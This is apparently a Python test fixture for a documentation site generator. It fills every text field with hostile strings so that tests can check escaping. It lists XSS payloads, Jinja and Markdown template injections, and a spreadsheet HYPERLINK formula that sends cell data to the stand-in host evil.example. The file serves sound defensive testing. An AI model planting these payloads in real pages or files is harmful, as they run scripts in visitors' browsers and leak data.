"""Hostile text: strings that would run, load or template something if any of it were trusted.

Shared by the HTML test (tests/test_injection.py) and the browser test
(tests/browser/test_injection_browser.py), which build one site with these in every text field.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

from benchmarks.generate import TextMaker, write_synthetic_data
from macros.kb.kinds import KINDS, folder_of
from macros.kb.model import System
from macros.kb.schemas import load_schema

EVIL_HOST = "evil.example"
# Characters outside the Basic Multilingual Plane (emoji, rare kanji) once broke generated pages'
# front matter, and what followed in the name was rendered as Markdown: a name like this ran a script.
ASTRAL_PAYLOAD = f"Model registry 🚀 ![i](https://{EVIL_HOST}/x.png){{: onerror=alert(document.domain) }}"

HOSTILE = (
    "<script>alert('script')</script>",
    "<img src=x onerror=\"alert('img')\">",
    "<svg onload=alert('svg')>",
    "<a href=\"javascript:alert('a')\">click</a>",
    "[markdown link](javascript:alert('md'))",
    f"[outside](https://{EVIL_HOST}/page)",
    f"![tracker](https://{EVIL_HOST}/pixel.png)",
    f'<iframe src="https://{EVIL_HOST}/frame"></iframe>',
    f"<style>body {{ background: url(https://{EVIL_HOST}/bg.png) }}</style>",
    "<div markdown>raw *HTML* block</div>",
    "{{ 7 * 7 }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "{# a Jinja comment #}",
    "{{ config.site_name }}",
    "{{ macros_info() }}",
    '{% include "README.md" %}',
    '--8<-- "README.md"',
    '!!! warning "admonition"',
    "{: onclick=\"alert('attr')\" }",
    "[TOC]",
    "&lt;b&gt;double&lt;/b&gt; &amp;",
    ASTRAL_PAYLOAD,
    "𠮷野家の𩸽 👩🏽‍💻",
    # A spreadsheet formula: a CSV cell starting with it must not run (api/v1/*.csv).
    f'=HYPERLINK("https://{EVIL_HOST}/?x="&A1,"click")',
)

# A system's contact that its schema accepts ({ } [ ] only %-escaped in an address), holding what would be
# live in a template, Markdown or an attribute once unescaped: shown and linked as written.
HOSTILE_CONTACT = (
    "https://example.com/teams/%7B%7B7*7%7D%7D?q=(javascript:alert(1))&x=%22%3E%3Cscript%3Ealert(1)%3C/script%3E#*7*7*"
)


# A text longer than this is a short field's problem, not a hostile one.
SHORT_LIMIT = 200


def _resolve(schema: object, defs: dict[str, Any]) -> dict[str, Any]:
    """A schema with its $ref into common.schema.json followed."""
    if not isinstance(schema, dict):
        return {}
    ref = schema.get("$ref", "")
    return _resolve(defs.get(ref.rsplit("/", 1)[-1]), defs) if ref else schema


def _is_short(schema: object, defs: dict[str, Any]) -> bool:
    """Whether a field holds only short text: a string limited to SHORT_LIMIT, a list of them, or one per language."""
    schema = _resolve(schema, defs)
    if schema.get("type") == "string":
        return schema.get("maxLength", SHORT_LIMIT + 1) <= SHORT_LIMIT and "pattern" not in schema  # not an id or date
    if schema.get("type") == "array":
        return _is_short(schema.get("items"), defs)
    properties = schema.get("properties", {})
    return bool(properties) and all(_is_short(sub, defs) for sub in properties.values())


def _short_fields() -> tuple[str, ...]:
    """The names of every field whose text the schemas keep short, read from the schemas (a new kind's too)."""
    defs = load_schema("common")["$defs"]
    names: set[str] = set()

    def visit(schema: object) -> None:
        schema = _resolve(schema, defs)
        if not schema:
            return
        for name, sub in schema.get("properties", {}).items():
            if _is_short(sub, defs):
                names.add(name)
            else:
                visit(sub)
        visit(schema.get("items"))

    for kind in KINDS.values():
        visit(load_schema(kind.schema))
    return tuple(sorted(names))


# Names, titles and other short fields have a length limit (200 characters): each holds one
# hostile string, a different one in turn, and the astral payload (the title is where it struck),
# numbered so that no two names are the same.
SHORT_FIELDS = _short_fields()


def hostile_text() -> TextMaker:
    """Every hostile string in every long field, starting at a different one each time (so each leads
    a line); one in each short field."""
    count = 0

    def text(trail: str) -> str:
        nonlocal count
        count += 1
        start = count % len(HOSTILE)
        if trail.removesuffix(".en").removesuffix(".ja").endswith(SHORT_FIELDS):
            return f"{HOSTILE[start]} {ASTRAL_PAYLOAD} ({count})"
        return " ".join(HOSTILE[start:] + HOSTILE[:start])

    return text


def write_hostile_data(dest: Path) -> Path:
    """A valid data/ folder whose every text field holds every hostile string, and each system's contact HOSTILE_CONTACT."""
    data = write_synthetic_data(dest, seed=11, capabilities=4, characteristics=3, case_studies=3, text=hostile_text())
    for path in sorted((data / folder_of(System)).glob("*.yml")):
        # The generator writes `contact: <address>` on a line of its own.
        text = path.read_text(encoding="utf-8")
        path.write_text(re.sub(r"^contact: .*$", f"contact: '{HOSTILE_CONTACT}'", text, flags=re.M), encoding="utf-8")
    return data
